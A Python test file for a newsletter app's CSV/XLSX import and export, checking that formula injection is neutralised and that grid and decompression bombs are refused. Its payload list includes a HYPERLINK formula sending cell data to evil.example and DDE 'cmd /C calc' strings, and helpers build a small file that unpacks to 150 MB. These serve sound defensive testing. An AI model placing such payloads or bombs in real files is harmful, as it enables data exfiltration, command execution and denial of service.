"""CSV/Excel formula injection (exports) and spreadsheet bombs (imports)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select

from newsletter.audience.importer import import_file
from newsletter.core.config import Settings
from newsletter.core.db import session_scope
from newsletter.core.errors import ImportFileError
from newsletter.models import MailingList, Subscriber

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=already neutral",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _export(ops, list_name: str) -> list[list[str]]:  # type: ignore[no-untyped-def]
    with session_scope() as s:
        list_id = s.scalar(select(MailingList.id).where(MailingList.name == list_name))
    r = ops.client.get(f"/api/lists/{list_id}/export.csv")
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_hostile_csv_round_trip_stays_neutralised(
    as_role, pg_app: Settings, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    src = tmp_path / "hostile.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["email", "name", "公司"])
        for k, f in enumerate(FORMULAS):
            w.writerow([f"r{k}@example.com", f, f])
    summary = import_file(src, "L1")
    assert summary.new == len(FORMULAS)
    with session_scope() as s:
        names = dict(s.execute(select(Subscriber.email, Subscriber.name)).all())
    # the importer never re-arms a cell that was protected by a leading tab/CR/space/quote
    for k, f in enumerate(FORMULAS):
        if f[0] in "\t\r '":
            assert not names[f"r{k}@example.com"].startswith(("=", "+", "-", "@")), f
    ops = as_role("ops")
    first = _export(ops, "L1")
    cells = [c for row in first[1:] for c in row]
    assert cells and not [c for c in cells if c.startswith(TRIGGERS)]
    # round trip: export → import → export is stable and still neutral
    again = tmp_path / "again.csv"
    with again.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["email", "name"], *[[r[0], r[1]] for r in first[1:]]])
    import_file(again, "L2")
    second = _export(ops, "L2")
    assert sorted(r[1] for r in second[1:]) == sorted(r[1] for r in first[1:])
    assert not [c for row in second[1:] for c in row if c.startswith(TRIGGERS)]


def test_every_csv_writer_neutralises() -> None:
    from newsletter.core.safety.csvsafe import writer

    buf = io.StringIO()
    writer(buf).writerow([*FORMULAS, -5, 3.5, "plain"])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert all(not c.startswith(TRIGGERS) for c in row[:-3])
    assert row[-3:] == ["-5", "3.5", "plain"]  # numbers are numbers


def _xlsx(path: Path, rows: list[list[str]]) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    wb.save(path)


def _rewrite(path: Path, name: str, data: bytes | None = None, *, big: int = 0) -> None:
    """Replace one member of the ZIP; ``big`` writes that many bytes of a repeated entry."""
    src = zipfile.ZipFile(path)
    out = path.with_suffix(".new")
    members = [i.filename for i in src.infolist()]
    if name not in members:
        members.append(name)  # openpyxl wrote inline strings; add the table a bomb would use
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for member in members:
            if member != name:
                dst.writestr(member, src.read(member))
            elif data is not None:
                dst.writestr(name, data)
            else:
                with dst.open(name, "w") as fh:
                    fh.write(
                        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main">'
                    )
                    unit = b"<si><t>" + b"a" * 1000 + b"</t></si>"
                    for _ in range(big // len(unit)):
                        fh.write(unit)
                    fh.write(b"</sst>")
    src.close()
    out.replace(path)


def test_a_sheet_declaring_the_whole_grid_fails_fast(pg_app: Settings, tmp_path: Path) -> None:
    path = tmp_path / "grid.xlsx"
    _xlsx(path, [["email", "name"], ["a@example.com", "甲"]])
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    _rewrite(
        path,
        "xl/worksheets/sheet1.xml",
        sheet.replace(b'<dimension ref="A1:B2"/>', b'<dimension ref="A1:XFD1048576"/>'),
    )
    assert path.stat().st_size < 8000
    t0 = time.monotonic()
    with pytest.raises(ImportFileError, match="declares"):
        import_file(path, "grid")
    assert time.monotonic() - t0 < 5
    with session_scope() as s:
        assert s.scalar(select(MailingList.id).where(MailingList.name == "grid")) is None


def test_a_small_sheet_that_unpacks_huge_is_refused_in_little_memory(tmp_path: Path) -> None:
    """A ~200 KB file whose shared-strings table unpacks to 150 MB (openpyxl would load it
    whole): refused from the ZIP directory, in a process that stays small."""
    path = tmp_path / "bomb.xlsx"
    _xlsx(path, [["email", "name"], ["a@example.com", "甲"]])
    _rewrite(path, "xl/sharedStrings.xml", big=150 * 1024 * 1024)
    assert path.stat().st_size < 400_000
    code = (
        "import sys\n"
        # start the peak from this process's own memory: a child forked from a large
        # pytest worker can otherwise report the parent's high-water mark
        "open('/proc/self/clear_refs', 'w').write('5')\n"
        "from newsletter.audience.importer import import_file\n"
        "from newsletter.core.errors import ImportFileError\n"
        "from newsletter.core.db import upgrade\n"
        "upgrade()\n"
        "try:\n"
        f"    import_file({str(path)!r}, 'bomb')\n"
        "    print('imported')\n"
        "except ImportFileError as exc:\n"
        "    print('refused', exc)\n"
        # VmHWM: this process's own peak (getrusage keeps the forking parent's across exec)
        "hwm = [x for x in open('/proc/self/status') if x.startswith('VmHWM')][0]\n"
        "print('rss', hwm.split()[1])\n"
    )
    env = {
        "NEWSLETTER_VAR_DIR": str(tmp_path / "var"),
        "PATH": "/usr/bin:/bin",
        "NEWSLETTER_CONFIG": str(tmp_path / "none.toml"),
    }
    out = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        cwd=Path(__file__).resolve().parents[2],
    )
    assert out.returncode == 0, out.stderr[-2000:]
    lines = out.stdout.splitlines()
    assert lines[0].startswith("refused") and "shared-strings" in lines[0]
    rss_kb = int(lines[-1].split()[1])
    assert rss_kb < 250 * 1024, rss_kb


def test_a_normal_sheet_still_imports(pg_app: Settings, tmp_path: Path) -> None:
    path = tmp_path / "ok.xlsx"
    _xlsx(path, [["email", "name"], *[[f"x{i}@example.com", f"读者{i}"] for i in range(50)]])
    assert import_file(path, "ok").new == 50
